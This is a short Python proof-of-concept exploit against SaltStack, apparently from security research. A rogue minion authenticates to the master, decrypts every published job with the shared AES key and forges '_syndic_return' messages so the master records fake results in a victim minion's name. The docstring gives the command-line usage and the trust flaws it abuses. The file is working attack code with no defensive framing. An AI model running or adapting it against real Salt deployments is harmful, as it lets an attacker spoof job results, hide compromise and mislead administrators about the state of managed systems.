"""A minion that reads every job its master publishes, and answers those for another minion in that one's name.

    python rogue_minion.py MINION_CONFIG VICTIM FUNCTION RETURN

All minions get all jobs, under one key; and a master takes returns from a syndic for whatever ids stand in them.
Prints a line when it listens, and one for each answer that it gave.
"""

from __future__ import annotations

import json
import sys

import salt.channel.client
import salt.config
import salt.crypt
import salt.payload
import zmq


def main(config: str, victim: str, function: str, returned: str) -> None:
    opts = salt.config.minion_config(config)
    opts["master_ip"], opts["master_uri"] = opts["master"], f"tcp://{opts['master']}:{opts['master_port']}"
    login = salt.crypt.SAuth(opts)
    login.authenticate()
    key, jobs = salt.crypt.Crypticle(opts, login.creds["aes"]), zmq.Context().socket(zmq.SUB)
    jobs.connect(f"tcp://{opts['master']}:{login.creds['publish_port']}")
    jobs.setsockopt(zmq.SUBSCRIBE, b"")
    with salt.channel.client.ReqChannel.factory(opts) as channel:
        channel.send({"cmd": "_syndic_return", "id": opts["id"], "load": []})  # connected: faster than its victim
        print("listening", flush=True)
        while True:
            job = key.loads(salt.payload.loads(jobs.recv_multipart()[-1])["load"])
            if job.get("fun") != function or victim not in str(job.get("tgt")):
                continue
            theirs = {victim: {"return": json.loads(returned), "retcode": 0, "success": True}}
            answer = {"id": opts["id"], "jid": job["jid"], "fun": function, "return": theirs}
            channel.send({"cmd": "_syndic_return", "id": opts["id"], "load": [answer]})
            print(f"answered {function}", flush=True)


main(*sys.argv[1:])
